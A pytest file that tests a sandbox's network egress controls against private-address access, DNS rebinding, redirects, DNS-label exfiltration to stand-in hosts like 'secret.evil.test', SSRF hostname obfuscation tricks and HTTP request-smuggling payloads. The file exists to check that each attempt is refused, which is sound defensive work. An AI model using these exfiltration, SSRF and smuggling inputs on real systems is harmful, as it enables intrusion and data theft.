# SPDX-License-Identifier: Apache-2.0
"""N02 to N05: what a box with rules for its network cannot reach, whatever it says.

Names are those of a name server of the test's own, which the command's resolver asks.
"""
import contextlib
import json
import socket
import subprocess

import pytest

from lib import box, canary, net, place as places
from lib.net import decisions, page, python, read_head

# What a name may resolve to that no box reaches, unless a rule lists it.
PRIVATE = [
    "127.0.0.1", "127.255.255.254", "0.0.0.0", "0.1.2.3", "10.0.0.1", "10.255.255.255", "100.64.0.1", "100.100.100.200",
    "169.254.169.254", "169.254.0.1", "172.16.0.1", "172.31.255.255", "192.0.0.1", "192.0.2.1", "192.88.99.1",
    "192.168.0.1", "198.18.0.1", "198.19.255.255", "198.51.100.1", "203.0.113.1", "224.0.0.1", "239.255.255.250",
    "240.0.0.1", "255.255.255.255",
    "::1", "::", "::ffff:127.0.0.1", "::ffff:169.254.169.254", "::127.0.0.1", "64:ff9b::7f00:1", "64:ff9b:1::1", "2002:7f00:1::",
    "2001::1", "2001:db8::1", "fe80::1", "fec0::1", "fc00::1", "fd00:ec2::254", "ff02::1", "100::1", "5f00::1",
    "168.63.129.16", "::ffff:0:127.0.0.1", "100:0:0:1::1", "4000::1", "3fff::1",
]

# One connection for each name and port; what became of it.
CONNECT = """
def tell(host, port):
    began = time.monotonic()
    try:
        s = socket.create_connection((host, port), 30)
        return 'open' if s.recv(1) else 'closed'
    except OSError as e:
        return 'refused' if time.monotonic() - began < 10 else 'slow'
"""

# What the proxy says to one target; by CONNECT.
PROXY = """
def ask(text):
    s = socket.create_connection(('127.0.0.1', 3128), 30)
    s.sendall(text)
    answer = b''
    while piece := s.recv(65536):
        answer += piece
    return answer.split(b' ')[1].decode() if answer.startswith(b'HTTP') else 'nothing'
def tunnel(host, port):
    return ask(b'CONNECT ' + host + b':' + str(port).encode() + b' HTTP/1.0\\r\\n\\r\\n')
"""


@pytest.fixture
def serve():
    with net.serving() as make:
        yield make


@pytest.fixture
def names():
    """names(records) makes a name server that ends with the test."""
    with contextlib.ExitStack() as stack:
        def make(records):
            server = net.NameServer(records)
            stack.callback(server.close)
            return server
        yield make


@pytest.fixture
def run(place):
    """`exec --net` where names are those of a name server."""
    def call(server, rules, *words, options=(), **more):
        settings = place.cwd / "resolv.conf"
        settings.write_text(f"nameserver {server.address}\noptions timeout:5 attempts:2\n")
        words = net.exec_words(rules, *words, options=options)
        return box.run_words(net.command(settings, words, target="/etc/resolv.conf"), **more)
    return call


def table(entries):
    """Records of names n0.test, n1.test …, one address each."""
    found = {f"n{i}.test": address for i, address in enumerate(entries)}

    def records(name, kind):
        if name not in found:
            return None
        return [found[name]] if (":" in found[name]) == (kind == 28) else []
    return records


# ---- N02: addresses -----------------------------------------------------------------------------

def test_N02_names_that_resolve_to_what_is_not_public(run, names, serve):
    """Refused by the host's dialler behind the look-up, in both families."""
    server = serve(page, "0.0.0.0")
    done = run(names(table(PRIVATE)), "full", *python(
        CONNECT + "n, port = map(int, sys.argv[1:])\nfor i in range(n):\n    print(tell(f'n{i}.test', port))",
        len(PRIVATE), server.port), options=["--timeout", "120"])
    assert done.document["stdout"].split() == ["refused"] * len(PRIVATE), done
    assert server.seen == 0
    told = {entry[0]: entry for entry in decisions(done) if entry[1] == server.port}
    four = [f"n{i}.test" for i, address in enumerate(PRIVATE) if ":" not in address]
    assert [told[name][2:] for name in four] == [(False, "not a public address")] * len(four)
    assert not any(allowed and reason is None for _, _, allowed, reason in told.values())


def test_N02_an_allowed_name_that_leads_to_what_is_not_public(run, names, serve):
    server = serve(page, "0.0.0.0")
    done = run(names(table(["127.0.0.1"])), f"n0.test:{server.port}", "curl", "-sS", "-m", "30", f"http://n0.test:{server.port}/")
    assert server.seen == 0 and done.document["exit_code"] != 0, done


def test_N02_a_public_address_and_then_another(run, names, serve):
    """Rebinding: what was looked up is not what is dialled, and what is dialled is judged."""
    server = serve(page, "0.0.0.0")
    asked = []

    def records(name, kind):
        if kind != 1:
            return []
        asked.append(name)
        return ["93.184.215.14"] if len(asked) == 1 else ["127.0.0.1"]

    done = run(names(records), "full", *python(CONNECT + "print(tell('re.test', int(sys.argv[1])))", server.port))
    assert len(asked) >= 2 and server.seen == 0, done
    assert decisions(done)[-1] == ("re.test", server.port, False, "not a public address")


PUBLIC, HIDDEN = "93.184.215.14", "10.0.0.1"


@pytest.mark.parametrize("order", [(PUBLIC, HIDDEN), (HIDDEN, PUBLIC)], ids=["last", "first"])
def test_N02_among_several_addresses_one_that_is_not_public(place, order):
    """Nobody answers at the one that may be dialled: the other is judged by itself, behind it or before it."""
    hosts = place.cwd / "hosts"
    hosts.write_text("127.0.0.1 localhost\n" + "".join(f"{address} both.test\n" for address in order))
    words = net.exec_words(f"both.test,{PUBLIC}", *python(CONNECT + "print(tell('both.test', 8099))"))
    seen, document = in_own_network(HIDDEN, net.command(hosts, words))
    assert (document["stdout"], seen) == ("refused\n", 0), document
    assert decisions_of(document)[-1] == (8099, False, "not a public address"), document


@pytest.mark.parametrize("proxy", [[], ["-x", f"http://{net.PROXY}"]], ids=["caught", "proxy"])
@pytest.mark.parametrize("to", ["http://127.0.0.1:{}/", "http://n1.test:{}/", "http://2130706433:{}/", "http://[::1]:{}/"],
                         ids=["loopback", "name", "decimal", "six"])
def test_N02_a_redirect_to_what_is_not_public(run, names, serve, proxy, to):
    inner = serve(page, "0.0.0.0")

    def redirect(connection):
        read_head(connection)
        connection.sendall(b"HTTP/1.1 302 Found\r\nLocation: %s\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
                           % to.format(inner.port).encode())

    outer = serve(redirect)
    done = run(names(table(["127.0.0.1", "127.0.0.1"])), f"n0.test,n1.test,127.0.0.1:{outer.port}",
               "curl", "-sS", "-m", "30", "-L", *proxy, f"http://n0.test:{outer.port}/")
    assert outer.seen == 1 and inner.seen == 0 and "a page" not in done.document["stdout"], done


# ---- N03: ways out that are no connections ------------------------------------------------------

def test_N03_nothing_is_asked_of_a_name_server_for_names_that_are_not_listed(run, names, serve):
    """Labels carry bytes to whoever answers for the name: no question leaves, however it is asked."""
    server = names(lambda name, kind: ["93.184.215.14"] if kind == 1 else [])
    done = run(server, "good.test", *python(
        "import struct\n"
        "def query(name, kind):\n"
        "    head = struct.pack('!6H', 7, 0x100, 1, 0, 0, 0)\n"
        "    return head + b''.join(bytes([len(l)]) + l for l in name.split(b'.')) + b'\\0' + struct.pack('!2H', kind, 1)\n"
        "for to in (sys.argv[1], '8.8.8.8', '127.0.0.1'):\n"
        "    for kind in (1, 5, 12, 15, 16, 28, 33, 65, 255):\n"
        "        try:\n"
        "            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(30); s.connect((to, 53))\n"
        "            s.send(query(b'%032x.evil.test' % kind, kind)); s.recv(600)\n"
        "        except OSError:\n            pass\n"
        "def hide(call):\n"
        "    try:\n        call()\n    except OSError:\n        pass\n"
        "hide(lambda: socket.getaddrinfo('secret.evil.test', 80))\n"
        "hide(lambda: socket.getaddrinfo('good.test.evil.test', 80))\n"
        "hide(lambda: socket.gethostbyaddr('192.0.2.1'))\n"
        "for request in (b'CONNECT secret.evil.test:80 HTTP/1.0\\r\\n\\r\\n', b'GET http://secret.evil.test/ HTTP/1.0\\r\\n\\r\\n'):\n"
        "    p = socket.create_connection(('127.0.0.1', 3128), 30); p.sendall(request); p.recv(100)\n"
        "print(socket.gethostbyname('good.test'))", server.address))
    assert done.document["stdout"] == "198.18.0.1\n", done
    assert {name for name, _ in server.questions} == {"good.test"}, server.questions
    refused = [name for name, _, allowed, _ in decisions(done) if not allowed]
    assert "secret.evil.test" in refused and len(refused) >= 10


def test_N03_a_port_that_is_not_listed_on_a_host_that_is(run, names, serve):
    server = serve(page)
    done = run(names(table(["127.0.0.1"])), "n0.test:443,127.0.0.1", *python(
        CONNECT + PROXY + "print(tell('n0.test', 53), tell('n0.test', int(sys.argv[1])), tunnel(b'n0.test', 53))", server.port))
    assert done.document["stdout"] == "refused refused 403\n" and server.seen == 0, done


LOOK_UP = """
def look_up(name):
    try:
        return bool(socket.gethostbyname(name))
    except OSError:
        return False
"""


@pytest.mark.parametrize("rules", ["full", "*.leak.test"])
def test_N03_names_that_a_program_makes_up_are_so_many_and_no_more(run, names, rules):
    """What the rules allow without listing it is a message to whoever serves the names."""
    server = names(lambda name, kind: ["93.184.215.14"] if kind == 1 else [])
    done = run(server, rules, *python(
        LOOK_UP + "import collections\n"
        "got = [look_up(f'{i:060x}.leak.test') for i in range(60)]\n"
        "print(got.index(False), sum(got), look_up('0' * 60 + '.leak.test'))"), options=["--net-names", "20"])
    assert done.document["stdout"] == "20 20 True\n", done
    asked = {name for name, _ in server.questions}
    assert asked == {f"{i:060x}.leak.test" for i in range(20)}, len(asked)
    over = [entry for entry in decisions(done) if entry[3] == "the box has had all its names"]
    assert len(over) == 40 and not any(allowed for _, _, allowed, _ in over), done


def test_N03_through_the_proxy_there_are_no_more(run, names):
    server = names(lambda name, kind: None)
    done = run(server, "full", *python(
        PROXY + "print([tunnel(b'n%d.leak.test' % i, 443) for i in range(8)])"), options=["--net-names", "5"])
    assert done.document["stdout"] == f"{['502'] * 5 + ['403'] * 3}\n", done
    assert len({name for name, _ in server.questions}) == 5


def test_N03_long_names_are_not_asked_of_the_world(run, names):
    server = names(lambda name, kind: ["93.184.215.14"] if kind == 1 else [])
    right, wrong = (".".join(["x" * 40] * 3 + ["y" * n]) for n in (5, 6))
    done = run(server, f"full,{wrong}z", *python(
        LOOK_UP + "print([look_up(name) for name in sys.argv[1:]])", right, wrong, f"{wrong}z"))
    assert done.document["stdout"] == "[True, False, True]\n", done
    assert {name for name, _ in server.questions} == {right, f"{wrong}z"}
    assert (wrong, None, False, "too long for a name that no rule lists") in decisions(done)


def test_N03_names_that_rules_list_are_not_counted(run, names):
    server = names(lambda name, kind: ["93.184.215.14"] if kind == 1 else [])
    listed = [f"n{i}.test" for i in range(5)]
    done = run(server, ",".join(listed), *python(LOOK_UP + "print([look_up(name) for name in sys.argv[1:]])", *listed),
               options=["--net-names", "1"])
    assert done.document["stdout"] == f"{[True] * 5}\n", done


# ---- N04: the proxy -----------------------------------------------------------------------------

TRICKS = [
    # Other words for this machine and its network.
    b"127.0.0.1", b"127.1", b"127.0.1", b"2130706433", b"0x7f000001", b"0x7f.1", b"0177.0.0.1", b"017700000001", b"0",
    b"0.0.0.0", b"localhost", b"LOCALHOST", b"localhost.", b"x.localhost", b"[::1]", b"[::]", b"[::ffff:127.0.0.1]",
    b"[64:ff9b::7f00:1]", b"[fe80::1%25lo]", b"169.254.169.254", b"10.0.0.1", b"192.168.0.1", b"198.18.0.1", b"198.19.255.255",
    b"127.0.0.1.", b"n1.test", b"N1.TEST.",
    # Other words for names that are allowed.
    b"good.test\0.n1.test", b"n1.test\0.good.test", b"good.test%00.n1.test", b"good.test@n1.test", b"n1.test#good.test",
    b"n1.test?good.test", b"n1.test/good.test", b"n1.test\\good.test", b"n1.test .good.test", b"n1.test\t", b"..good.test",
    b"good..test", b"good.test..", b".good.test", b"g\xc3\xb6od.test", b"\xef\xbd\x87ood.test", b"good\xe3\x80\x82test",
    b"good.test:80", b"", b"*", b"*.test", b"a" * 64 + b".test", b"a." * 130 + b"test",
]


def test_N04_a_target_that_is_another(run, names, serve):
    """By CONNECT, in absolute form and by SOCKS: nothing but good.test is reached, and nothing hangs."""
    server = serve(page, "0.0.0.0")
    code = CONNECT + PROXY + (
        "def absolute(host, port):\n"
        "    at = host + b':' + str(port).encode()\n"
        "    return ask(b'GET http://' + at + b'/ HTTP/1.1\\r\\nHost: ' + at + b'\\r\\n\\r\\n')\n"
        "def socks(host, port):\n"
        "    s = socket.create_connection(('127.0.0.1', 3128), 30)\n"
        "    s.sendall(b'\\5\\1\\0'); s.recv(2)\n"
        "    s.sendall(b'\\5\\1\\0\\3' + bytes([len(host) & 255]) + host[:255] + port.to_bytes(2, 'big'))\n"
        "    return str((s.recv(10) or b'\\0\\xff')[1])\n"
        "port = int(sys.argv[1])\n"
        "for word in sys.argv[2:]:\n"
        "    host = bytes.fromhex(word)\n"
        "    print(tunnel(host, port), absolute(host, port), socks(host, port) if len(host) < 256 else '2')\n"
        "print(tunnel(b'GOOD.test.', 9), socks(b'Good.TEST', 9))\n")
    done = run(names(table(["203.0.113.1", "127.0.0.1"])), "good.test,*.good.test", *python(
        code, server.port, *[trick.hex() for trick in TRICKS]), options=["--timeout", "120"])
    lines = done.document["stdout"].splitlines()
    assert len(lines) == len(TRICKS) + 1, done
    for trick, line in zip(TRICKS, lines):
        tunnel, absolute, socks = line.split()
        assert tunnel in ("400", "403") and absolute in ("400", "403") and socks in ("1", "2", "8"), (trick, line)
    assert lines[-1].split()[0] == "502" and server.seen == 0, done
    assert not [entry for entry in decisions(done) if entry[2] and entry[0] != "good.test"], decisions(done)


def test_N04_a_second_request_goes_nowhere_else(run, names, serve):
    """Requests hidden in or behind another stay on the way of the first, or are refused with it."""
    seen = []

    def note(connection):
        head, rest = read_head(connection)
        seen.append(head)
        connection.sendall(net.HTTP % 0)
        connection.shutdown(socket.SHUT_WR)
        while rest:
            rest = connection.recv(65536)

    one, two = serve(note), serve(note)
    second = b"GET http://n1.test:%d/ HTTP/1.1\r\nHost: n1.test:%d\r\n\r\n" % (two.port, two.port)
    at = b"n0.test:%d" % one.port
    plain = b"GET http://%s/ HTTP/1.1\r\nHost: %s\r\n\r\n" % (at, at) + second
    both = (b"POST http://%s/ HTTP/1.1\r\nHost: %s\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
            % (at, at)) + second
    twice = b"POST http://%s/ HTTP/1.1\r\nHost: %s\r\nContent-Length: 0\r\nContent-Length: %d\r\n\r\n" % (at, at, len(second)) + second
    folded = b"GET http://%s/ HTTP/1.1\r\nHost: %s\r\nX: a\r\n %s" % (at, at, second)
    done = run(names(table(["127.0.0.1", "127.0.0.1"])), f"n0.test,n1.test,127.0.0.1:{one.port}", *python(
        PROXY + "for word in sys.argv[1:]:\n    print(ask(bytes.fromhex(word)))", *[text.hex() for text in (plain, both, twice, folded)]))
    assert done.document["stdout"].split() == ["200", "400", "400", "400"], done
    assert (one.seen, two.seen) == (1, 0) and len(seen) == 1


# ---- N05: services of the host and of other boxes -----------------------------------------------

def test_N05_what_listens_on_every_address_of_the_host(run, names, serve):
    server = serve(page, "0.0.0.0")
    own = [address for address in canary.own_addresses() if ":" not in address]
    done = run(names(table([*own, "127.0.0.1"])), "full", *python(
        CONNECT + PROXY + "port = int(sys.argv[1])\nfor at in sys.argv[2:]:\n    print(tell(at, port), tunnel(at.encode(), port))",
        server.port, *own, *[f"n{i}.test" for i in range(len(own) + 1)]))
    assert server.seen == 0, done
    assert set(done.document["stdout"].splitlines()) <= {"refused 403"}, done


INSIDE = """
import json, socket, subprocess, sys, threading
seen = 0
server = socket.create_server((sys.argv[1], 8099))
def serve():
    global seen
    while True:
        connection, _ = server.accept()
        seen += 1
        connection.sendall(b'inside')
        connection.close()
threading.Thread(target=serve, daemon=True).start()
done = subprocess.run(sys.argv[2:], stdin=subprocess.DEVNULL, capture_output=True, text=True)
print(json.dumps([seen, done.stdout, done.stderr]))
"""


def in_own_network(at, words):
    """A command where this machine has a public and a private address, and a server listens at one: how many it
    saw, and the document."""
    script = f'ip link set lo up && ip addr add {PUBLIC}/32 dev lo && ip addr add {HIDDEN}/32 dev lo && exec "$@"'
    done = subprocess.run(["unshare", "-n", "sh", "-c", script, "sh", "/usr/bin/python3", "-c", INSIDE, at, *words],
                          capture_output=True, text=True, env=box.environment({}), timeout=box.OUTER_SECONDS)
    seen, out, _ = json.loads(done.stdout)
    return seen, json.loads(out)


def decisions_of(document):
    return [(entry["port"], entry["allowed"], entry["reason"]) for entry in document["network"]["decisions"]]


@pytest.mark.parametrize("rules, answer", [("full", ("refused\n", 0)), (f"full,{PUBLIC}", ("open\n", 1))], ids=["full", "listed"])
def test_N05_a_public_address_of_the_host_itself(place, rules, answer):
    words = net.exec_words(rules, *python(CONNECT + f"print(tell('{PUBLIC}', 8099))"))
    seen, document = in_own_network("0.0.0.0", words)
    assert (document["stdout"], seen) == answer, document
    if rules == "full":
        assert decisions_of(document) == [(8099, False, "an address of this machine")]


def test_N05_servers_of_another_box(place):
    """Every box has its own loopback and its own address, by the same numbers."""
    listener = python("s = socket.create_server(('0.0.0.0', 8077))\nprint('up', flush=True)\ns.accept()\nprint('reached', flush=True)")
    words = [str(places.binary()), "exec", "--net", "full", "--timeout", "60", "--", *listener]
    other = subprocess.Popen(words, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, env=box.environment({}))
    try:
        assert other.stdout.readline() == b"up\n"
        done = box.run_words(net.exec_words("full", *python(
            CONNECT + PROXY + "print(*(tell(at, 8077) for at in ('127.0.0.1', '198.19.255.255', '0.0.0.0')),"
            " tunnel(b'198.19.255.255', 8077))")))
        assert done.document["stdout"] == "refused refused refused 403\n", done
    finally:
        other.terminate()
        out, _ = other.communicate(timeout=30)
    assert b"reached" not in out
